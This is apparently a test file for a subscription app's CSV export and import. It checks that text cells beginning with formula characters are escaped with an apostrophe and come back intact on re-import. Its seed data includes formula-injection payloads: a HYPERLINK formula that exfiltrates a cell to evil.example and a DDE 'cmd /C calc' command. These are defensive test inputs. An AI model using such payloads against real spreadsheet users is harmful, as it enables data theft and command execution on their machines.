import { parse } from 'csv-parse/sync';

import { createSubscription } from '../support/subscriptions';
import { graphqlData, type SignedUpUser, signUp, startTestApp, type TestApp } from '../support/test-app';

/**
 * Spreadsheet formula injection through the CSV export: a text that begins with a character a spreadsheet
 * runs as a formula is written after an apostrophe, and the CSV import reads it back as it was.
 */
let testApp: TestApp;

beforeAll(async () => {
  testApp = await startTestApp();
});
afterAll(() => testApp.close());

/** The characters a spreadsheet starts a formula with (the full-width ones too), and the names they go by here. */
const STARTS: Array<[string, string]> = [
  ['=', 'equals'],
  ['+', 'plus'],
  ['-', 'minus'],
  ['@', 'at'],
  ['\t', 'tab'],
  ['\r', 'carriage return'],
  ['\uFF1D', 'full-width equals'],
  ['\uFF0B', 'full-width plus'],
  ['\uFF0D', 'full-width minus'],
  ['\uFF20', 'full-width at'],
];
/** Names, folders, payment methods, categories and tags are trimmed by the domain: they cannot begin with white space. */
const trimmed = (start: string) => start.trim() === '';

const TEXT_COLUMNS = [
  'product_name',
  'description',
  'note',
  'tags',
  'folder_name',
  'payment_method_name',
  'product_category_name',
  'company_name',
] as const;
type TextColumn = (typeof TEXT_COLUMNS)[number];

const download = async (user: SignedUpUser) => {
  const response = await testApp.http
    .get('/export/subscriptions.csv')
    .set('authorization', `Bearer ${user.token}`)
    .buffer(true)
    .parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => done(null, Buffer.concat(chunks).toString('utf8')));
    });
  expect(response.status).toBe(200);
  return response.body as string;
};

/** The file's rows as its raw cells (csv-parse alone: no apostrophe taken off). */
const rawRows = (text: string) => parse(text, { bom: true, columns: true }) as Array<Record<string, string>>;

const IMPORT = `mutation ($file: Upload!, $mapping: [ColumnMappingInput!]) {
  importSubscriptions(input: { format: CSV, file: $file, mapping: $mapping }) {
    report { total created refused rows { line name problems { field messages } } }
    userErrors { field code message }
  }
}`;

/** The CSV import of a file, uploaded as a GraphQL client does (graphql-multipart-request-spec). */
async function importCsv(user: SignedUpUser, file: Buffer, mapping: Array<{ field: string; column: string }>) {
  const response = await testApp.http
    .post('/graphql')
    .set('authorization', `Bearer ${user.token}`)
    .field('operations', JSON.stringify({ query: IMPORT, variables: { file: null, mapping } }))
    .field('map', JSON.stringify({ 0: ['variables.file'] }))
    .attach('0', file, 'subscriptions.csv');
  expect(response.body.errors).toBeUndefined();
  expect(response.body.data.importSubscriptions.userErrors).toEqual([]);
  return response.body.data.importSubscriptions.report as { total: number; created: number; refused: number };
}

/** A user's records' texts as the API answers them, in the export's columns. */
async function storedTexts(user: SignedUpUser): Promise<Array<Record<TextColumn, string>>> {
  const { subscriptions } = await graphqlData<{ subscriptions: { edges: Array<{ node: Record<string, any> }> } }>(
    testApp,
    user.token,
    `{ subscriptions(first: 100) { edges { node {
       productName description note companyName tags { name } folder { name } paymentMode { name } category { name } } } } }`,
  );
  return subscriptions.edges.map(({ node }) => ({
    product_name: node.productName,
    description: node.description ?? '',
    note: node.note ?? '',
    tags: node.tags.map((tag: { name: string }) => tag.name).join(';'),
    folder_name: node.folder?.name ?? '',
    payment_method_name: node.paymentMode?.name ?? '',
    product_category_name: node.category?.name ?? '',
    company_name: node.companyName ?? '',
  }));
}

/** Ann's records: for each start character, one whose every text field begins with it; and texts that look escaped already. */
async function seed(user: SignedUpUser): Promise<Array<Record<TextColumn, string>>> {
  const expected: Array<Record<TextColumn, string>> = [];
  for (const [start, label] of STARTS) {
    const named = (text: string) => (trimmed(start) ? text : `${start}${text}`);
    const ids = await graphqlData<{
      createFolder: { folder: { id: number } };
      createPaymentMode: { paymentMode: { id: number } };
      createProductCategory: { productCategory: { id: number } };
    }>(
      testApp,
      user.token,
      `mutation($folder: String!, $mode: String!, $category: String!) {
        createFolder(input: {name: $folder}) { folder { id: legacyId } }
        createPaymentMode(input: {name: $mode}) { paymentMode { id: legacyId } }
        createProductCategory(input: {name: $category}) { productCategory { id: legacyId } } }`,
      { folder: named(`Folder ${label}`), mode: named(`Card ${label}`), category: named(`Category ${label}`) },
    );
    const values = {
      product_name: named(`SUM(1+1) ${label}`),
      description: `${start}HYPERLINK("https://evil.example/?d="&A1,"${label}")`,
      note: `${start}cmd|' /C calc'!A0 ${label}`,
      tags: named(`tag-${label}`),
      folder_name: named(`Folder ${label}`),
      payment_method_name: named(`Card ${label}`),
      product_category_name: named(`Category ${label}`),
      company_name: `${start}2+3 ${label}`,
    };
    await createSubscription(testApp, user.token, {
      brand_id: values.product_name,
      description: values.description,
      note: values.note,
      'tags[]': [values.tags],
      folder_id: String(ids.createFolder.folder.id),
      payment_mode_id: String(ids.createPaymentMode.paymentMode.id),
      category_id: String(ids.createProductCategory.productCategory.id),
      company_name: values.company_name,
    });
    expected.push(values);
  }
  // A number-like text with a minus, texts that already begin with an apostrophe (before a formula character
  // or not), and a plain text: each must come back as it is.
  const odd = {
    product_name: 'Apostrophes',
    description: "'=1+1",
    note: '-5.00',
    tags: "''@twice",
    folder_name: '',
    payment_method_name: '',
    product_category_name: 'Other',
    company_name: "'plain",
  };
  await createSubscription(testApp, user.token, {
    brand_id: odd.product_name,
    description: odd.description,
    note: odd.note,
    'tags[]': [odd.tags],
    company_name: odd.company_name,
  });
  return [...expected, odd];
}

let ann: SignedUpUser;
let expected: Array<Record<TextColumn, string>>;

beforeAll(async () => {
  ann = await signUp(testApp, 'Ann');
  expected = await seed(ann);
});

it('writes a text that begins with =, +, -, @, tab or CR (or a full-width one) after an apostrophe; numbers and other texts as they are', async () => {
  const rows = rawRows(await download(ann));
  expect(rows).toHaveLength(expected.length);
  for (const values of expected) {
    const row = rows.find((candidate) => candidate.product_name.replace(/^'/, '') === values.product_name)!;
    const cells = Object.fromEntries(TEXT_COLUMNS.map((column) => [column, row[column]]));
    const escaped = Object.fromEntries(
      TEXT_COLUMNS.map((column) => {
        const value = values[column];
        return [column, /^'*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(value) ? `'${value}` : value];
      }),
    );
    expect(cells).toEqual(escaped);
    // The price is a number: written as it is.
    expect(row.price).toBe('15.49');
  }
  // Spelled out for the first record: the raw cells of "=" and of the odd one.
  const named = (name: string) => rows.find((row) => row.product_name === name);
  expect(named("'=SUM(1+1) equals")?.description).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"equals")`);
  expect(named('Apostrophes')).toMatchObject({
    description: "''=1+1",
    note: "'-5.00",
    tags: "'''@twice",
    company_name: "'plain",
  });
});

it('reads its own export back exactly: an export imported (CSV) into another account gives every text as it was written', async () => {
  const exported = await download(ann);
  const cat = await signUp(testApp, 'Cat');
  // The export's own columns for what the import does not find by its header names.
  const mapping = [
    { field: 'CYCLE', column: 'billing_cycle_value' },
    { field: 'TYPE', column: 'type_value' },
    { field: 'FOLDER', column: 'folder_name' },
    { field: 'CATEGORY', column: 'product_category_name' },
  ];
  expect(await importCsv(cat, Buffer.from(exported), mapping)).toMatchObject({
    total: expected.length,
    created: expected.length,
    refused: 0,
  });
  // The CSV import takes no company name: everything else it reads.
  const imported = (texts: Array<Record<TextColumn, string>>) =>
    texts.map(({ company_name: _company, ...rest }) => rest);
  const byName = (a: { product_name: string }, b: { product_name: string }) =>
    a.product_name.localeCompare(b.product_name);
  expect(imported(await storedTexts(cat)).sort(byName)).toEqual(imported(expected).sort(byName));
  expect((await storedTexts(ann)).sort(byName)).toEqual([...expected].sort(byName));
  // And its export is the same file in those columns, raw cell for raw cell.
  const columns = (text: string) =>
    rawRows(text)
      .map((row) => TEXT_COLUMNS.filter((column) => column !== 'company_name').map((column) => row[column]))
      .sort((a, b) => a[0].localeCompare(b[0]));
  expect(columns(await download(cat))).toEqual(columns(exported));
});
